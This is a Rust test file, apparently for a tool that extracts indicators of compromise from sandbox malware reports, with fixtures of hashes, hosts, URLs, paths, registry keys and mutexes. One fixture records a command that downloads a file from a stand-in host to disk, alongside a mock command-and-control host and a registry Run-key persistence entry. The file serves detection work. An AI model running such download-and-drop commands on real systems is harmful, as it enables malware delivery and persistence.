use super::super::{ATTRIBUTES, Body, Index};
use super::*;

fn found(json: &str) -> Vec<String> {
    let body = Body::in_memory(json.as_bytes().to_vec());
    let index = Index::of(&body).unwrap();
    let found = Indicators::of(&Report::new(body, index), &|| true).unwrap();
    found.all().iter().map(|i| format!("{} {} {}", i.kind.name(), i.value.visible(), i.seen)).collect()
}

#[test]
fn every_kind_is_looked_for_somewhere() {
    let sources: Vec<_> = ATTRIBUTES.iter().flat_map(|attribute| attribute.holds).collect();
    for kind in Kind::ALL {
        assert!(kind == Kind::Mail || sources.iter().any(|source| source.meaning == Meaning::Is(kind)), "{kind:?}");
    }
}

#[test]
fn what_was_left_behind_is_told_from_what_was_looked_at_by_any_of_its_rows() {
    let read = vec![r#""C:\\both""#; 3 * MOST_PLACES].join(",");
    let json = format!(
        r#"{{"files_opened":[{read},"C:\\read"],"files_written":["C:\\both"],
        "files_copied":[{{"source":"C:\\from","destination":"C:\\to"}}]}}"#
    );
    let body = Body::in_memory(json.into_bytes());
    let index = Index::of(&body).unwrap();
    let found = Indicators::of(&Report::new(body, index), &|| true).unwrap();
    let left = found.all().iter().filter(|found| found.is_left).map(|found| found.value.visible().to_string());
    assert_eq!(left.collect::<Vec<_>>(), [r"C:\both", r"C:\to"]);
}

#[test]
fn each_thing_stands_once_with_how_often_it_was_seen() {
    let hash = "AB".repeat(32);
    let json = format!(
        r#"{{"files_opened":["C:\\a b","C:\\a b",""],"files_dropped":[{{"path":"C:\\a b","sha256":"{hash}"}}],
        "dns_lookups":[{{"hostname":"C2.Example.","resolved_ips":["192.0.2.7","no address"]}}],
        "http_conversations":[{{"url":"https://u:p@c2.example:8443/x?y"}},{{"url":"no url"}},{{"url":"http://[2001:DB8::1]:80/"}}],
        "ip_traffic":[{{"destination_ip":"192.0.2.7"}}],"mutexes_created":["Global\\m"],"tls":[{{"sni":"203.0.113.5"}}],
        "registry_keys_set":[{{"key":"HKCU\\Run","value":"\"C:\\Program Files\\x.exe\" /q"}}],"modules_loaded":["1.2.3.4"],
        "command_executions":["curl http://d.example/f -o C:\\t.exe, mail 4BrL.1/me@m.example to 198.51.100.2:443 v1.2"]}}"#
    );
    assert_eq!(
        found(&json),
        [
            format!("hash {} 1", hash.to_lowercase()),
            "host c2.example 2".to_owned(),
            "host d.example 1".to_owned(),
            "address 192.0.2.7 2".to_owned(),
            "address 2001:db8::1 1".to_owned(),
            "address 203.0.113.5 1".to_owned(),
            "address 198.51.100.2 1".to_owned(),
            "url https://u:p@c2.example:8443/x?y 1".to_owned(),
            "url http://[2001:DB8::1]:80/ 1".to_owned(),
            "url http://d.example/f 1".to_owned(),
            "mail me@m.example 1".to_owned(),
            r"path C:\a b 3".to_owned(),
            r"path C:\Program Files\x.exe 1".to_owned(),
            r"path C:\t.exe 1".to_owned(),
            r"key HKCU\Run 1".to_owned(),
            r"mutex Global\m 1".to_owned(),
        ]
    );
}

#[test]
fn odd_shapes_are_passed_over() {
    let json =
        r#"{"files_opened":{"a":1},"dns_lookups":["x",null,{"hostname":7}],"ip_traffic":"192.0.2.1","tls":[[]]}"#;
    assert!(found(json).is_empty());
}
